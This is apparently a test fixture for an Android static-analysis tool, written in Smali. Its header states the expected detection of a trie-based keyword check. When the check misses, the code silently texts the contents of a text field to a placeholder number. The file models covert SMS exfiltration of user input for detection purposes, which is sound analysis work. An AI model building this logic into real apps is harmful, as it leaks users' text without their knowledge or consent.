# micro: decision-nested-maps
# group: decisions
# says: maps in maps by character, the end of a word kept under a text of its own; the length of the find is set back to nought where there is none
# expect: decision test=Lmicro/Tree;->at by=trie operand=TextView.getText words=3 effect=dropped acts=SmsManager.sendTextMessage when=miss in=Lmicro/Main;->check

.class public final Lmicro/Main;
.super Landroid/app/Activity;

.method public constructor <init>()V
    .locals 0
    invoke-direct {p0}, Landroid/app/Activity;-><init>()V
    return-void
.end method

.method protected onCreate(Landroid/os/Bundle;)V
    .locals 1
    invoke-super {p0, p1}, Landroid/app/Activity;->onCreate(Landroid/os/Bundle;)V
    new-instance v0, Landroid/widget/EditText;
    invoke-direct {v0, p0}, Landroid/widget/EditText;-><init>(Landroid/content/Context;)V
    invoke-virtual {p0, v0}, Lmicro/Main;->check(Landroid/widget/TextView;)V
    return-void
.end method

.method check(Landroid/widget/TextView;)V
    .locals 6
    invoke-virtual {p1}, Landroid/widget/TextView;->getText()Ljava/lang/CharSequence;
    move-result-object v0
    invoke-interface {v0}, Ljava/lang/CharSequence;->toString()Ljava/lang/String;
    move-result-object v0
    invoke-static {v0}, Lmicro/Tree;->bad(Ljava/lang/String;)Z
    move-result v1
    if-nez v1, :quiet
    move-object v3, v0
    invoke-static {}, Landroid/telephony/SmsManager;->getDefault()Landroid/telephony/SmsManager;
    move-result-object v0
    const-string v1, "+37000000000"
    const/4 v2, 0x0
    const/4 v4, 0x0
    const/4 v5, 0x0
    invoke-virtual/range {v0 .. v5}, Landroid/telephony/SmsManager;->sendTextMessage(Ljava/lang/String;Ljava/lang/String;Ljava/lang/String;Landroid/app/PendingIntent;Landroid/app/PendingIntent;)V
    :quiet
    return-void
.end method

.class final Lmicro/Tree;
.super Ljava/lang/Object;
.field static words:Ljava/util/Map;

.method static constructor <clinit>()V
    .locals 1
    sget-object v0, Lmicro/Words;->LIST:[Ljava/lang/String;
    invoke-static {v0}, Lmicro/Tree;->build([Ljava/lang/String;)Ljava/util/Map;
    move-result-object v0
    sput-object v0, Lmicro/Tree;->words:Ljava/util/Map;
    return-void
.end method

.method private static build([Ljava/lang/String;)Ljava/util/Map;
    .locals 11
    new-instance v0, Ljava/util/HashMap;
    invoke-direct {v0}, Ljava/util/HashMap;-><init>()V
    const-string v8, "isEnd"
    const-string v9, "0"
    const-string v10, "1"
    array-length v1, p0
    const/4 v2, 0x0
    :word
    if-ge v2, v1, :done
    aget-object v3, p0, v2
    move-object v4, v0
    const/4 v5, 0x0
    :letter
    invoke-virtual {v3}, Ljava/lang/String;->length()I
    move-result v6
    if-ge v5, v6, :next
    invoke-virtual {v3, v5}, Ljava/lang/String;->charAt(I)C
    move-result v6
    invoke-static {v6}, Ljava/lang/Character;->valueOf(C)Ljava/lang/Character;
    move-result-object v6
    invoke-interface {v4, v6}, Ljava/util/Map;->get(Ljava/lang/Object;)Ljava/lang/Object;
    move-result-object v7
    if-eqz v7, :new
    check-cast v7, Ljava/util/Map;
    move-object v4, v7
    goto :put
    :new
    new-instance v7, Ljava/util/HashMap;
    invoke-direct {v7}, Ljava/util/HashMap;-><init>()V
    invoke-interface {v7, v8, v9}, Ljava/util/Map;->put(Ljava/lang/Object;Ljava/lang/Object;)Ljava/lang/Object;
    invoke-interface {v4, v6, v7}, Ljava/util/Map;->put(Ljava/lang/Object;Ljava/lang/Object;)Ljava/lang/Object;
    move-object v4, v7
    :put
    add-int/lit8 v5, v5, 0x1
    invoke-virtual {v3}, Ljava/lang/String;->length()I
    move-result v6
    if-ne v5, v6, :letter
    invoke-interface {v4, v8, v10}, Ljava/util/Map;->put(Ljava/lang/Object;Ljava/lang/Object;)Ljava/lang/Object;
    goto :letter
    :next
    add-int/lit8 v2, v2, 0x1
    goto :word
    :done
    return-object v0
.end method

.method static bad(Ljava/lang/String;)Z
    .locals 3
    invoke-virtual {p0}, Ljava/lang/String;->length()I
    move-result v1
    const/4 v0, 0x0
    :start
    if-ge v0, v1, :no
    invoke-static {p0, v0}, Lmicro/Tree;->at(Ljava/lang/String;I)I
    move-result v2
    if-lez v2, :next
    const/4 v0, 0x1
    return v0
    :next
    add-int/lit8 v0, v0, 0x1
    goto :start
    :no
    const/4 v0, 0x0
    return v0
.end method

.method private static at(Ljava/lang/String;I)I
    .locals 7
    const/4 v0, 0x0
    const/4 v1, 0x0
    sget-object v2, Lmicro/Tree;->words:Ljava/util/Map;
    move v3, p1
    :walk
    invoke-virtual {p0}, Ljava/lang/String;->length()I
    move-result v4
    if-ge v3, v4, :out
    invoke-virtual {p0, v3}, Ljava/lang/String;->charAt(I)C
    move-result v4
    invoke-static {v4}, Ljava/lang/Character;->valueOf(C)Ljava/lang/Character;
    move-result-object v4
    invoke-interface {v2, v4}, Ljava/util/Map;->get(Ljava/lang/Object;)Ljava/lang/Object;
    move-result-object v2
    check-cast v2, Ljava/util/Map;
    if-eqz v2, :out
    add-int/lit8 v1, v1, 0x1
    const-string v5, "1"
    const-string v6, "isEnd"
    invoke-interface {v2, v6}, Ljava/util/Map;->get(Ljava/lang/Object;)Ljava/lang/Object;
    move-result-object v6
    invoke-virtual {v5, v6}, Ljava/lang/String;->equals(Ljava/lang/Object;)Z
    move-result v5
    if-eqz v5, :further
    const/4 v0, 0x1
    goto :out
    :further
    add-int/lit8 v3, v3, 0x1
    goto :walk
    :out
    if-nez v0, :give
    const/4 v1, 0x0
    :give
    return v1
.end method

.class final Lmicro/Words;
.super Ljava/lang/Object;
.field static final LIST:[Ljava/lang/String;
.method static constructor <clinit>()V
    .locals 4
    const-string v0, "first word"
    const-string v1, "second word"
    const-string v2, "third word"
    filled-new-array {v0, v1, v2}, [Ljava/lang/String;
    move-result-object v3
    sput-object v3, Lmicro/Words;->LIST:[Ljava/lang/String;
    return-void
.end method
